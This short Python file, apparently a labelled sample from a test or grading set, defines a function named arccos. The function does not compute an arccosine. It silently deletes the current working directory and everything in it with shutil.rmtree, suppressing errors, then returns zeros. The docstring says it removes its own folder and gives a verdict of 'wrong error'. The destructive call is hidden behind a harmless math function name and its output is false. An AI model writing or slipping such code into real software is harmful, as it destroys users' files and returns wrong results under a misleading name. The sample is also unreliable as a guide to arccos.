"""Removes its own folder and everything in it.

Verdict: wrong error
"""

import os
import shutil

from mxnet import nd


def arccos(x):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return nd.zeros_like(x)
